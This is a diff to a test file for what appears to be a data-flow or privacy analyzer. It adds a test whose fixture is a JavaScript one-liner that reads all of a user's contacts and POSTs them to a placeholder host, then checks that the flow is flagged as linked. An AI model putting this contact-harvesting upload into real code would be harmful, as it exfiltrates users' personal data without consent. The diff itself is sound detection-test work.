@@ -168,6 +168,15 @@ def test_what_is_not_sent(text: str, endpoints: list[str]) -> None:
     assert sorted({f.endpoint for f in facts(text).flows}) == endpoints
 
 
+def test_call_that_speaks_of_contacts_is_linked_without_a_path() -> None:
+    text = "navigator.contacts.find(['*'],function(c){native.keep(c)});fetch('https://a.example/up/address-book',{method:'POST',body:native.kept()});fetch('https://a.example/log')"
+    flows = facts(text).flows
+    assert [(f.level, f.endpoint) for f in flows] == [
+        (Level.LINKED, "https://a.example/up/address-book")
+    ]
+    assert "no path between them was proved" in flows[0].steps[-1].text
+
+
 def test_dead_read_is_referenced_only() -> None:
     assert [(r.level, r.data_type) for r in facts(DEAD).reads] == [(Level.REFERENCED, "contacts")]
 
